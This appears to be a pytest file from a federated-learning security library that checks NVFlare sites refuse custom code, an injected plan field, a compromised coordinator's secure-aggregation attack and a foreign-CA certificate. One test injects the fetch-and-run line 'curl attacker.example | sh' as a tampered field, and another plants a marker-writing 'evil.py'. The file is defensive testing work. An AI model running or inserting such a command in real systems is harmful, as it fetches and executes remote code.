"""A real loopback federation whose coordinator is not trusted: the sites refuse custom code, an
unknown plan field and a modified coordinator's attack on secure aggregation, saying why; a site
certificate of a foreign CA never joins.

One federation serves the session (conftest.py). The coordinator's own policy is NVFlare's
permissive default here (as if it were compromised), so what refuses custom code below is the
sites' hardening.
"""

from __future__ import annotations

import json
import shutil
import socket
import ssl
import time
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import load_file

pytest.importorskip("nvflare")

from fedsec.core import seeding
from fedsec.engines.nvflare import poc
from fedsec.engines.nvflare.job import build_job, fetch, run_job, session, submit, wait
from fedsec.engines.nvflare.plan import JobSpec
from fedsec.engines.nvflare.provision import Admin, FederationSpec, Identity, provision
from fedsec.engines.nvflare.results import read_result
from fedsec.engines.nvflare.site import Site
from fedsec.engines.nvflare.site_config import config_from_scenario
from fedsec.experiments.deployed import write_site_only_run
from tests.engines.nvflare.loopback import JOB_TIMEOUT, spec_for

pytestmark = pytest.mark.deployment


def test_a_job_carrying_custom_code_is_refused_by_the_sites(federation, consortium, tmp_path):
    _, scenario = consortium
    folder = build_job(spec_for(scenario), tmp_path / "job")
    marker = tmp_path / "custom-code-ran"
    custom = folder / "app" / "custom"
    custom.mkdir()
    (custom / "evil.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    client = folder / "app" / "config" / "config_fed_client.json"
    config = json.loads(client.read_text())
    config["components"] = [{"id": "evil", "path": "evil.Evil", "args": {}}]
    client.write_text(json.dumps(config))
    with session(federation.admin_kit, federation.admin) as admin:
        job_id = submit(admin, folder)
        meta = with_deploy_detail(admin, job_id, wait(admin, job_id, JOB_TIMEOUT))
    details = meta.get("job_deploy_detail", [])
    assert "server: OK" in details  # the (compromised) coordinator let it through
    for site in scenario.org_names():
        assert any(d.startswith(site) and "BYOC not permitted" in d for d in details), details
    assert meta["status"] != "FINISHED:COMPLETED"
    assert not marker.exists()


def with_deploy_detail(admin, job_id: str, meta: dict, timeout: float = 10.0) -> dict:
    """``meta`` once it holds the job's deployment details: of a job it could not start, NVFlare
    publishes the finished status a moment before those details (the test read none)."""
    deadline = time.monotonic() + timeout
    while not meta.get("job_deploy_detail") and time.monotonic() < deadline:
        time.sleep(0.1)
        meta = admin.get_job_meta(job_id)
    return meta


def test_an_unknown_training_plan_field_is_refused_by_the_sites(federation, consortium, tmp_path):
    _, scenario = consortium
    spec = spec_for(scenario)
    tampered = spec.model_dump(mode="json")
    tampered["training"]["run_command"] = "curl attacker.example | sh"
    _, meta, result = run_job(
        spec, federation.admin_kit, federation.admin, tmp_path, JOB_TIMEOUT, job=tampered
    )
    assert meta["status"] != "FINISHED:COMPLETED"
    assert result is not None and result.params is None
    for site in scenario.org_names():
        reason = result.dropouts[site]
        assert "training plan refused: training.run_command: Extra inputs are not permitted" in (
            reason
        )
    assert "needed" in result.error


def compromised_job(spec: JobSpec, directory: Path, sites: list[str]) -> Path:
    """fedsec's job, but the coordinator runs ``compromised_coordinator.py`` (custom code of a
    server-only app, which the coordinator's permissive policy lets through); the sites get
    fedsec's unmodified executor in an app of their own."""
    folder = build_job(spec, directory)
    app, server, client = folder / "app", folder / "app_server", folder / "app_sites"
    config = json.loads((app / "config" / "config_fed_server.json").read_text())
    config["workflows"][0]["path"] = "compromised_coordinator.CompromisedController"
    (server / "config").mkdir(parents=True)
    (server / "config" / "config_fed_server.json").write_text(json.dumps(config))
    (server / "custom").mkdir()
    shutil.copy(Path(__file__).with_name("compromised_coordinator.py"), server / "custom")
    (client / "config").mkdir(parents=True)
    shutil.move(app / "config" / "config_fed_client.json", client / "config")
    shutil.rmtree(app)
    meta = json.loads((folder / "meta.json").read_text())
    meta["deploy_map"] = {"app_server": ["server"], "app_sites": sites}
    (folder / "meta.json").write_text(json.dumps(meta))
    return folder


def victim_update(consortium, fetched: Path, victim: str) -> np.ndarray:
    """What ``victim`` masked in round 1, recomputed in process from the task it was sent."""
    data, scenario = consortium
    task = json.loads((fetched / "round1-task.json").read_text())
    arrays = load_file(fetched / "round1-params.safetensors")
    task["params"] = [arrays[f"params/{i}"] for i in range(len(arrays))]
    seeding.deterministic_torch(threads=1)
    site = Site(config_from_scenario(scenario, victim, data), data, job="recompute")
    site.handle("fedsec_train", task)
    return site.secure.pending[1].vector


def test_a_compromised_coordinator_recovers_nothing_and_the_sites_say_why(
    federation, consortium, tmp_path
):
    """Attack (b) of the issue from a modified coordinator: the victim is told it masks alone,
    then everyone that all survived. The victim refuses to mask, the others to reveal."""
    _, scenario = consortium
    privacy = scenario.privacy.model_copy(update={"secure_aggregation": True})
    scenario = scenario.model_copy(update={"privacy": privacy})
    victim, others = "plant", ["cloud", "office"]
    folder = compromised_job(spec_for(scenario), tmp_path / "job", federation.sites)
    with session(federation.admin_kit, federation.admin) as admin:
        job_id = submit(admin, folder)
        meta = wait(admin, job_id, JOB_TIMEOUT)
        fetched = fetch(admin, job_id, tmp_path / "results")
    assert meta["status"] == "FINISHED:COMPLETED", meta
    truth = victim_update(consortium, fetched, victim)
    stolen = fetched / "attack.safetensors"
    recovered = load_file(stolen)["recovered"] if stolen.exists() else None
    assert recovered is None or np.abs(recovered - truth).max() > 1e-3, "update recovered"
    evidence = json.loads((fetched / "attack.json").read_text())
    assert evidence["reveals"] == 0 and not evidence["masked_update_received"]
    refusals = evidence["refusals"]
    assert "(mask, round 1): participants: 1 organization(s)" in refusals[victim]
    for site in others:
        assert f"(reveal, round 1): confirmations: missing from ['{victim}']" in refusals[site]
    for site in federation.sites:  # each site's own log says why
        log = _text(federation.kit(site) / job_id / "log.txt")
        assert "refused fedsec_secagg_" in log and "secure aggregation refused" in log
    result = read_result(fetched)
    assert result.history[0].aborted is not None and result.history[0].contributed == []
    assert [h.contributed for h in result.history[1:]] == [sorted(others)] * 2
    run = write_site_only_run(scenario, result, job_id, tmp_path / "run")
    report = (run / "report.md").read_text()
    assert f"- round 1: refused by {victim}: secure aggregation refused (mask, round 1)" in report
    assert "updates under secure aggregation in 2 of 3 rounds." in report


def test_a_site_certificate_from_a_foreign_ca_is_refused(federation, tmp_path):
    foreign = provision(
        FederationSpec(
            project=federation.project,
            coordinator=poc.SERVER,
            fed_learn_port=federation.ports["fed_learn"],
            admin_port=federation.ports["admin"],
            sites=[Identity(name=s, org=federation.orgs[s]) for s in federation.sites],
            admins=[Admin(name=federation.admin, org="consortium")],
        ),
        tmp_path / "foreign",
    )
    genuine_ca = federation.kit("plant") / "startup" / "rootCA.pem"
    assert genuine_ca.read_bytes() != (foreign / "plant" / "startup" / "rootCA.pem").read_bytes()
    port = federation.ports["fed_learn"]
    assert handshake(federation.kit("plant") / "startup", genuine_ca, port) == "accepted"
    assert handshake(foreign / "plant" / "startup", genuine_ca, port) == "refused"

    # The real client, given the project's public root CA as an attacker would, never joins.
    kit = foreign / "plant"
    shutil.copy(genuine_ca, kit / "startup" / "rootCA.pem")
    pid = poc.launch(federation, "plant", kit)
    try:
        with pytest.raises(poc.PocError, match="did not register"):
            poc.wait_registered(kit, 0, pid, timeout=15)
    finally:
        assert poc.kill(pid, kit)
    assert not poc.alive(pid)


def handshake(startup: Path, ca: Path, port: int) -> str:
    """Present ``startup``'s client certificate to the coordinator over TLS."""
    context = ssl.create_default_context(cafile=str(ca))
    context.check_hostname = False
    context.load_cert_chain(startup / "client.crt", startup / "client.key")
    with socket.create_connection(("127.0.0.1", port), timeout=5) as raw:
        try:
            with context.wrap_socket(raw) as tls:
                tls.settimeout(2)
                tls.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
                return "accepted" if tls.recv(1) else "refused"
        except (ssl.SSLError, ConnectionResetError, BrokenPipeError):
            return "refused"
        except TimeoutError:
            return "accepted"


def _text(path: Path) -> str:
    return path.read_text(errors="replace") if path.exists() else ""
